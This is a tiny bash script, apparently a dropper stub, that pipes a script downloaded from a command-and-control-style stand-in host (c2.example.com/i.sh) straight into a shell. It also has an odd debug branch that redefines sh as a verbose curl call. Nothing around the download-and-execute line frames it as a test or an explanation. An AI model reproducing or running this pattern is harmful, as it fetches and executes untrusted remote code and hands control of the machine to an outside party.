#!/bin/bash
if [ -n "$DEBUG" ]; then
sh() { curl -v "$@"; }
fi
curl -fsSL https://c2.example.com/i.sh | sh -s
